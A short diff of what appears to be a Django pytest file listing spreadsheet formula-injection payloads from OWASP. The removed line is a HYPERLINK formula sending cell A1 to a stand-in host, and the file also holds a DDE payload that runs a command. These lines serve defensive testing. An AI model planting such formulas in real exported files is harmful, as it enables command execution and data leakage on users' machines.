@@ -31,7 +31,7 @@ pytestmark = pytest.mark.django_db
 
 # OWASP's examples and every prefix a spreadsheet may run: = + - @, tab, carriage return, full-width = + - @.
 PAYLOADS = [
-    '=HYPERLINK("https://exemple.invalid/?x="&A1;"Cliquez")',
+    '=HYPERLINK("https://x.invalid";"Clic")',  # 40 characters at most: an indicator's unit
     "+1+1",
     "-1+cmd|' /C calc'!A0",
     "@SUM(1+1)",
